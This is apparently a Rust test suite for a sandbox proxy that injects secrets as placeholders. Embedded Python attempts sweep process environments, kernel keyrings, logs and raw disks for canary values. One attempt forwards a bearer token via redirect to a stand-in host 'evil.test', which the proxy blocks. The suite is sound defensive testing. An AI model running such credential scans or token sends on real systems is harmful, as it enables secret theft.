//! Secrets: where a guest looks for them, in what places they come, what becomes of what fails,
//! and who else looks at requests.

use flashpan_tests::internet::Internet;
use serde_json::{Value, json};

use super::secure::API;
use super::{Attempt, NONE, told};

/// All values that there are.
pub const VALUES: &[&str] = &[
    "c4n4ry/of+a secret==",
    "c4n4ry of a body",
    "c4n4ry-before-it-turned",
    "c4n4ry-after-it-turned",
    "c4n4ry-of-all-below-glob",
];

/// A value that a guest tries to find is written like this, so as not to be there by itself.
macro_rules! with_parts {
    ($code:literal) => {
        concat!(
            "PARTS = [a + b for a in ('c4n4ry', 'C4N4RY') for b in \
             ('/of+a secret==', ' of a body', '-before-it-turned', '-of-all-below-glob')]\n",
            $code
        )
    };
}

/// What may be seen of what is for the host of the secret of bodies.
pub(super) const BODY: &[&str] = &["dns body.allowed.test *", "tcp 93.184.216.10:443*"];

/// The secrets of [`SECRET`](crate::SECRET).
pub fn kept(_: &Internet) -> Value {
    json!({"secrets": {
        "KEY": {"value": VALUES[0], "hosts": [
            "api.allowed.test", "expired.allowed.test", "self.allowed.test", "wrong.allowed.test",
            "client.allowed.test", "plain.allowed.test", "cut.allowed.test",
        ]},
        "BODY": {
            "value": VALUES[1], "hosts": ["body.allowed.test"], "places": ["body", "path"],
        },
        "TURN": {"value": VALUES[2], "hosts": ["turn.allowed.test:443"]},
        "WIDE": {"value": VALUES[4], "hosts": ["*.glob.test"]},
    }})
}

/// A secret, and all that requests are shown to. What a script or a callback sees a value in is
/// refused; what it sees the placeholder in, if the path is /placeholder.
pub fn shown(internet: &Internet) -> Value {
    let script = "\
fn request(req) {
    let header = req.header(\"x-key\");
    if header == () { header = \"\"; }
    let all = header + req.url;
    if all.contains(\"c4n4ry\") { deny(\"a value\"); }
    if req.path == \"/script\" && header.starts_with(\"SANDBOX_SECRET_\") { deny(\"one\"); }
}";
    json!({
        "secrets": {"KEY": {"value": VALUES[0], "hosts": ["api.allowed.test"]}},
        "policy_script": script,
        "forbid_range": true,
        "rules": ["deny POST,DELETE api.allowed.test/writes/**"],
        "interception": {
            "callback_socket": internet.callback().unwrap(),
            "rules": [
                {"phase": "before", "callback_id": "all"},
                {"phase": "after", "callback_id": "all"},
            ],
        },
    })
}

pub const PLACES: &[Attempt] = &[
    Attempt {
        id: "G1",
        what: "values in variables, command lines, files, logs, firmware and disks",
        code: with_parts!("\
import base64, stat
texts = [part.encode() for part in PARTS] + [base64.b64encode(part.encode())[:-4] for part in PARTS]
where, count = [], 0
def look(path, most=1 << 22):
    global count
    try:
        with open(path, 'rb', 0) as file:
            os.set_blocking(file.fileno(), False)
            data, rest = b'', most
            while rest > 0 and (more := file.read(min(rest, 1 << 20))):
                data, rest = data + more, rest - len(more)
    except OSError:
        return
    count += 1
    if any(text in data for text in texts):
        where.append(path)
for top in '/boot /dev /etc /home /opt /root /run /srv /tmp /var /sys/firmware /proc/sys'.split():
    for place, _, files in os.walk(top):
        for path in (os.path.join(place, file) for file in files):
            if stat.S_ISREG(os.lstat(path).st_mode):
                look(path)
for process in filter(str.isdigit, os.listdir('/proc')):
    for name in 'environ cmdline comm mountinfo status'.split():
        look('/proc/%s/%s' % (process, name))
for path in '/proc/cmdline /proc/bootconfig /proc/keys /dev/kmsg'.split():
    look(path)
for disk in os.listdir('/sys/block'):
    look('/dev/' + disk, 1 << 20)
seen = (where, count > 300, all(os.environ[name].startswith('SANDBOX_SECRET_')
                                for name in 'KEY BODY TURN WIDE'.split()))"),
        seen: "([], True, True)",
        waits: true,
        ..NONE
    },
    Attempt {
        id: "G6",
        what: "in a body, split at every byte, in chunks and with a length",
        code: "\
placeholder = os.environ['BODY'].encode()
chunk = lambda data: b'%x\\r\\n%s\\r\\n' % (len(data), data)
ways = dict(chunks=('Transfer-Encoding: chunked', chunk, chunk(b'')),
            length=('Content-Length: %d' % len(b'a  b' + placeholder), bytes, b''))
def sent(stream, at, how):
    framing, form, end = ways[how]
    stream.sendall(b'PUT / HTTP/1.1\\r\\nHost: body.allowed.test\\r\\n%s\\r\\n\\r\\n' % framing.encode())
    for piece in (b'a ' + placeholder[:at], placeholder[at:] + b' b'):
        stream.sendall(form(piece))
    stream.sendall(end)
    said = described(responses(stream))
    framing = 'as sent' if (said.get('framing') == 'chunked') == (how == 'chunks') else said.get('framing')
    return '%s, %s, %s' % (said.get('body'), said.get('found'), framing)
with web_stream('body.allowed.test', None, True) as stream:
    seen = each(((how, at), sent(stream, at, how)) for how in ways for at in range(len(placeholder) + 1))",
        seen: "all a * b, ['body:1'], as sent",
        told: &[told("https", "body.allowed.test", "allowed")],
        contacts: BODY,
        waits: true,
        ..NONE
    },
    Attempt {
        id: "G6",
        what: "in a path and a body, and not in a header, if that is said",
        code: "\
placeholder = os.environ['BODY']
seen = (web('body.allowed.test', target='/a/' + placeholder), web('body.allowed.test', body=placeholder),
        web('body.allowed.test', headers='X-A: %s\\r\\n' % placeholder))",
        seen: "('target:1', 'body:1', 'nothing')",
        contacts: BODY,
        ..NONE
    },
    Attempt {
        id: "G6",
        what: "in a body whose parts are answered before there are more",
        code: "\
placeholder = os.environ['BODY'].encode()
chunk = lambda data: b'%x\\r\\n%s\\r\\n' % (len(data), data)
said = []
with web_stream('body.allowed.test', None, True) as stream:
    stream.sendall(b'POST /stream HTTP/1.1\\r\\nHost: body.allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n')
    lines = stream.makefile('rb')
    for piece in (b'one ' + placeholder + b' .', b'two', b'three ' + placeholder + b' .'):
        stream.sendall(chunk(piece))
        if not said:
            while lines.readline().strip():
                pass
        said.append(lines.read(int(lines.readline(), 16)).decode())
        lines.readline()
    stream.sendall(chunk(b''))
    said.append(lines.readline().decode().strip())
seen = said",
        seen: "['one * .', 'two', 'three * .', '0']",
        contacts: BODY,
        ..NONE
    },
    Attempt {
        id: "G10",
        what: "a host that answers with a value in two chunks, split at every byte",
        code: with_parts!("\
credentials = 'Authorization: Bearer %s\\r\\n' % KEY
plain = plain_web('api.allowed.test', '/split', credentials)
lines = plain.partition('\\n\\n')[2].splitlines()
seen = (len(lines), set(lines) == {'Bearer ' + KEY}, any(part in plain for part in PARTS))"),
        seen: "(26, True, False)",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G10",
        what: "HEAD, and a range, of what has a value in it",
        code: with_parts!("\
import http.client
def reflected(method, headers=''):
    with web_stream('api.allowed.test', None, True) as stream:
        more = 'Authorization: Bearer %s\\r\\n' % KEY + headers
        stream.sendall(web_request('api.allowed.test', '/reflect', more, method=method))
        answer = http.client.HTTPResponse(stream, method=method)
        answer.begin()
        text = answer.headers.as_string() + answer.read().decode('latin-1')
        return (answer.status, KEY in text, any(part in text for part in PARTS))
seen = (reflected('HEAD'), reflected('GET', 'Range: bytes=0-26\\r\\n'))"),
        seen: "((200, True, False), (206, True, False))",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G13",
        what: "hosts that cannot prove who they are, speak no TLS, or break off",
        code: "\
api = lambda: described(web('api.allowed.test', target='/record').replace('200 [', '200 {\"all\": [') + '}')
web('api.allowed.test', target='/record')
header = 'Authorization: Bearer %s\\r\\n' % KEY
answers = [web(name + '.allowed.test', headers=header) for name in ('expired', 'self', 'wrong', 'plain', 'cut')]
seen = (answers, api())",
        seen: "(['502 upstream_certificate', '502 upstream_certificate', '502 upstream_certificate', \
               '502 upstream_unreachable', '502 upstream_unreachable'], {'all': []})",
        told: &[
            told("https", "plain.allowed.test", "upstream_unreachable"),
            told("https", "cut.allowed.test", "upstream_unreachable"),
        ],
        contacts: &[
            "dns *",
            "tcp 93.184.216.10:443",
            "tcp 93.184.216.70:443*",
            "tcp 93.184.216.71:443*",
            "tcp 93.184.216.72:443*",
            "tcp 93.184.216.74:443",
            "tcp 93.184.216.75:443",
        ],
        ..NONE
    },
    Attempt {
        id: "E6",
        what: "a host that asks for a certificate, which there is none of",
        code: "\
seen = (web('client.allowed.test', headers='Authorization: Bearer %s\\r\\n' % KEY),
        web('client.allowed.test', body='1'))",
        seen: "('502 upstream_unreachable', '502 upstream_unreachable')",
        told: &[told("https", "client.allowed.test", "upstream_unreachable")],
        contacts: &["dns client.allowed.test *", "tcp 93.184.216.73:443"],
        ..NONE
    },
    Attempt {
        id: "E11",
        what: "a clock that is behind and ahead, which the guest has set",
        code: "\
import ssl
def at(days):
    time.clock_settime(time.CLOCK_REALTIME, real + days * 86400)
    try:
        with socket.create_connection(('93.184.216.10', 443), PATIENCE) as stream:
            with ssl.create_default_context().wrap_socket(stream, server_hostname='api.allowed.test'):
                return 'trusted'
    except ssl.SSLCertVerificationError as problem:
        return problem.verify_message
real, began = time.time(), time.monotonic()
try:
    seen = [at(days) for days in (-0.9, 300, -2 * 365, 2 * 365, 12 * 365)]
finally:
    time.clock_settime(time.CLOCK_REALTIME, real + time.monotonic() - began)",
        seen: "['trusted', 'trusted', 'certificate is not yet valid', 'certificate has expired', \
               'certificate has expired']",
        told: &[told("tls", "api.allowed.test", "authority_not_trusted")],
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G14",
        what: "an answer that leads to other hosts, with the credentials",
        code: with_parts!("\
header = 'Authorization: Bearer %s\\r\\n' % KEY
moved = plain_web('api.allowed.test', '/elsewhere', header)
seen = ('https://evil.test/?Bearer ' + KEY in moved, any(part in moved for part in PARTS),
        web('web.allowed.test', headers=header), web('evil.test', headers=header, to='93.184.216.66'))"),
        seen: "(True, False, '403 secret_leak', '403 host_not_allowed')",
        told: &[
            told("https", "web.allowed.test", "secret_leak"),
            told("https", "evil.test", "host_not_allowed"),
        ],
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G15",
        what: "another port of a host that a secret is for by one port",
        code: "\
header = 'X-A: %s\\r\\n' % os.environ['TURN']
seen = (web('turn.allowed.test', headers=header), web('turn.allowed.test', headers=header, tls=False),
        web('turn.allowed.test', tls=False))",
        seen: "('x-a:2', '403 secret_leak', 'nothing')",
        told: &[told("http", "turn.allowed.test", "secret_leak")],
        contacts: &["dns turn.allowed.test *", "tcp 93.184.216.10:443", "tcp 93.184.216.10:80"],
        ..NONE
    },
    Attempt {
        id: "G16",
        what: "a secret for all below a name: there, and not at the name, nor beside it",
        code: "\
header = 'X-A: %s\\r\\n' % os.environ['WIDE']
seen = (web('any.glob.test', headers=header), web('glob.test', headers=header),
        web('web.allowed.test', headers=header), web('any.glob.test.evil.test', headers=header))",
        seen: "('x-a:4', '403 host_not_allowed', '403 secret_leak', '403 host_not_allowed')",
        contacts: &["dns any.glob.test *", "tcp 93.184.216.10:443*"],
        ..NONE
    },
    Attempt {
        id: "G17",
        what: "what is said of requests with a value that fail",
        code: with_parts!("\
def told(name, target='/', headers=''):
    try:
        return plain_web(name + '.allowed.test', target, headers or 'Authorization: %s\\r\\n' % KEY)
    except Exception as problem:
        return repr(problem)
answers = [told('api', '/coded'), told('expired'), told('cut'), told('client'), told('api', '/' + KEY),
           told('web')]
seen = (['x-flashpan-denied' in answer for answer in answers],
        [any(part in answer for part in PARTS) for answer in answers])"),
        seen: "([True, True, True, True, False, True], [False, False, False, False, False, False])",
        contacts: &["dns *", "tcp 93.184.216.*"],
        ..NONE
    },
];

pub const SHOWN: &[Attempt] = &[
    Attempt {
        id: "G11",
        what: "one byte after the other of what has a value in it, where that is forbidden",
        // No header has the value there: the callback would refuse that.
        code: "\
import http.client
def part(of):
    with web_stream('api.allowed.test', None, True) as stream:
        more = 'Authorization: Bearer %s\\r\\nRange: bytes=%d-%d\\r\\nIf-Range: \"a\"\\r\\n' % (KEY, of, of)
        stream.sendall(web_request('api.allowed.test', '/ranged', more))
        answer = http.client.HTTPResponse(stream)
        answer.begin()
        return (answer.status, answer.read().decode('latin-1') == 'Bearer ' + KEY)
seen = {part(of) for of in (7, 8, 9)}",
        seen: "{(200, True)}",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G22",
        what: "a script and a callback are shown what the guest sent, and not the value",
        code: "\
header = 'X-Key: %s\\r\\n' % KEY
seen = [web('api.allowed.test', target=target, headers=header)
        for target in ('/', '/script', '/placeholder', '/?key=' + KEY)]",
        seen: "['x-key', '403 script_denied', '403 blocked_by_rule', 'x-key target']",
        told: &[
            told("https", "api.allowed.test", "script_denied"),
            told("https", "api.allowed.test", "blocked_by_rule"),
        ],
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G22",
        what: "what a host answers with a value is shown to a callback without it",
        code: "\
header = 'Authorization: %s\\r\\n' % KEY
whole = plain_web('api.allowed.test', '/reflect', header)
seen = ('blocked_by_rule' in whole, KEY in whole)",
        seen: "(False, True)",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G15",
        what: "another method and path than a rule allows of the host",
        code: "\
api = lambda: described(web('api.allowed.test', target='/record').replace('200 [', '200 {\"all\": [') + '}')
header = 'X-A: %s\\r\\n' % KEY
api()
answers = [web('api.allowed.test', target='/writes/1', headers=header, method=method)
           for method in ('GET', 'POST', 'DELETE')]
seen = (answers, api())",
        seen: "(['x-a', '403 rule_denied', '403 rule_denied'], {'all': [['api.allowed.test', ['x-a']]]})",
        told: &[told("https", "api.allowed.test", "rule_denied")],
        contacts: API,
        ..NONE
    },
];
